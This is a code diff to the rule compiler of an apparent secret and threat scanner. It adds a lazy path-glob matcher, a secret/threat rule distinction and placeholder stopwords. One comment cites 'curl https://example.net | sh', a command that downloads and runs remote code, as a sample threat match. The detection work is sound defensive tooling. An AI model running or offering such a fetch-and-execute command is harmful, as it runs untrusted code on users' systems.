@@ -2,6 +2,7 @@ import { createHash } from 'node:crypto';
 import picomatch from 'picomatch';
 import { compileContext, contextProblems, CONTEXT_STOPWORDS, type ContextDefinition } from './assignment.js';
 import { KeywordAutomaton } from './keywords.js';
+import { MADE_UP_STOPWORDS } from './made-up.js';
 import { countCapturingGroups } from './regex-source.js';
 import { compileUrl, URL_ALLOWLIST, urlProblems, type UrlDefinition } from './url-credentials.js';
 
@@ -58,7 +59,29 @@ export function compileAllowlist(def: unknown, where: (string | number)[], probl
     lineRegexes: compileAll('lineRegexes'),
     stopwords: stringList(d.stopwords, [...where, 'stopwords'], problems).map((s) => s.toLowerCase()),
     paths,
-    pathMatcher: paths.length ? picomatch(paths, { dot: true }) : undefined,
+    pathMatcher: paths.length ? pathMatcherFor(paths) : undefined,
+  };
+}
+
+/**
+ * A matcher for path globs. A glob that is one file name at any depth (the lock files of the
+ * global list: two stars, a slash, a name) becomes a set of names; the rest is compiled by
+ * picomatch on first use, not at start-up, where every hook run would pay for it.
+ */
+function pathMatcherFor(globs: string[]): (path: string) => boolean {
+  const names = new Set<string>();
+  const rest: string[] = [];
+  for (const g of globs) {
+    const m = /^\*\*\/([^*?[\]{}()!/\\]+)$/.exec(g);
+    if (m) names.add(m[1]!);
+    else rest.push(g);
+  }
+  let other: ((path: string) => boolean) | undefined;
+  return (path) => {
+    if (names.size && names.has(path.slice(path.lastIndexOf('/') + 1))) return true;
+    if (!rest.length) return false;
+    other ??= picomatch(rest, { dot: true });
+    return other(path);
   };
 }
 
@@ -69,8 +92,11 @@ function urlAllowlist(): CompiledAllowlist {
   return (sharedUrlAllowlist ??= compileAllowlist(URL_ALLOWLIST, ['url'], []));
 }
 
-/** Validate and compile one rule definition. Problems are appended; undefined means unusable. */
-export function compileRule(raw: unknown, where: (string | number)[], problems: Problem[]): CompiledRule | undefined {
+/**
+ * Validate and compile one rule definition. Problems are appended; undefined means unusable.
+ * `kind` is `threat` for the skill threat packs, whose matches are not secrets.
+ */
+export function compileRule(raw: unknown, where: (string | number)[], problems: Problem[], kind: 'secret' | 'threat' = 'secret'): CompiledRule | undefined {
   if (typeof raw !== 'object' || raw === null || Array.isArray(raw)) {
     problems.push({ where, message: 'a rule must be a mapping' });
     return undefined;
@@ -124,7 +150,7 @@ export function compileRule(raw: unknown, where: (string | number)[], problems: 
   if (source !== undefined) regex = compileRegex(source, `g${typeof flags === 'string' ? flags : ''}${builtFlags}d`, [...where, shape ?? 'regex'], problems);
   const keywords = stringList(def.keywords, [...where, 'keywords'], problems);
   keywords.forEach((k, i) => {
-    if (k !== k.toLowerCase() || !/^[\x20-\x7e]+$/.test(k)) problems.push({ where: [...where, 'keywords', i], message: 'keywords must be lower-case printable ASCII' });
+    if (k !== k.toLowerCase() || !/^\*?[\x20-\x7e]+$/.test(k)) problems.push({ where: [...where, 'keywords', i], message: 'keywords must be lower-case printable ASCII (a leading * lets a keyword match inside a word)' });
   });
   const severity = (def.severity ?? 'high') as Severity;
   if (!SEVERITIES.includes(severity)) problems.push({ where: [...where, 'severity'], message: `severity must be one of ${SEVERITIES.join(', ')}` });
@@ -133,7 +159,8 @@ export function compileRule(raw: unknown, where: (string | number)[], problems: 
   }
   let secretGroup = 0;
   if (regex) {
-    const groups = countCapturingGroups(source!);
+    // Built shapes know their group; reading a few KB of source per rule costs at every start.
+    const groups = builtGroup ?? countCapturingGroups(source!);
     secretGroup = builtGroup ?? def.secretGroup ?? (groups > 0 ? 1 : 0);
     if (!Number.isInteger(secretGroup) || secretGroup < 0 || secretGroup > groups) {
       problems.push({ where: [...where, 'secretGroup'], message: `secretGroup ${String(def.secretGroup)} does not exist (the regex has ${groups} groups)` });
@@ -141,6 +168,10 @@ export function compileRule(raw: unknown, where: (string | number)[], problems: 
   }
   const tags = stringList(def.tags, [...where, 'tags'], problems);
   const allowlist = compileAllowlist(def.allowlist, [...where, 'allowlist'], problems);
+  // Made-up values (counting runs, placeholder families) are quiet in every secret rule. A
+  // threat rule's match is a command or a phrase, not a value: `curl https://example.net | sh`
+  // is a threat whatever its host is called.
+  if (kind === 'secret') for (const w of MADE_UP_STOPWORDS) if (!allowlist.stopwords.includes(w)) allowlist.stopwords.push(w);
   if (shape === 'context') {
     for (const w of CONTEXT_STOPWORDS) if (!allowlist.stopwords.includes(w)) allowlist.stopwords.push(w);
   }
